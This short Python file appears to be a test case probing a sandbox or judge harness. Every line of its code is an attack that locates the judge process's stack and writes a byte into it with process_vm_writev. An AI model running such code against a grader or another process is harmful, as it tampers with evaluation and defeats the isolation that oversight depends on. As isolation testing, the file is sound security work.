"""Overwrites a byte of the judge's memory by process_vm_writev.

shows: marker
layers: syscalls user judge
"""
import ctypes

import outside

WRITEV = 311


def attack():
    pid = outside.judge()
    content = ctypes.create_string_buffer(1)
    with open(f"/proc/{pid}/maps") as file:
        start = [int(ln.split("-")[0], 16) for ln in file if ln.endswith("[stack]\n")][0]
    here = (ctypes.c_void_p * 2)(ctypes.addressof(content), 1)
    there = (ctypes.c_void_p * 2)(start, 1)
    outside.syscall(WRITEV, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    return "the judge's memory was written"
